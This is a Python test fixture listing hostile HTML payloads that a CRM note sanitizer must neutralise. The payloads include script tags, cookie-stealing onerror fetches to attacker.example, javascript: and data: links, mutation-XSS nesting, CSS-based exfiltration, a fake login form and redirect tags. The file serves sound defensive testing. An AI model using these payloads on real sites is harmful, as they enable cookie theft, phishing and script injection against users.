"""What attackers put into notes: nothing of it may run, load or lead anywhere once the note stands in the CDP.

Belongs here: markup that is meant to do harm. Not here: the harmless sentences around it (`demo_crm_note_texts.py`).
"""

from typing import Final

HOSTILE: Final = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('https://attacker.example/?c='+document.cookie)\">",
    '<a href="javascript:alert(1)">Invoice</a>',
    '<a href=" java&#10;script:alert(1)">Invoice</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Buka</a>',
    '<svg onload="alert(1)"><circle r="9"></circle></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<div style="background:url(https://attacker.example/pixel.gif)">Promo</div>',
    "<style>input[value^=a]{background:url(https://attacker.example/a)}</style>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://attacker.example/login"><input name="password"><button>Login</button></form>',
    '<img src="https://attacker.example/pixel.gif" width="1" height="1">',
    '<details open ontoggle="alert(1)"><summary>Detail</summary></details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    '<base href="https://attacker.example/"><a href="login">Login</a>',
    '<p onmouseover="alert(1)" contenteditable="true">Lihat</p>',
)
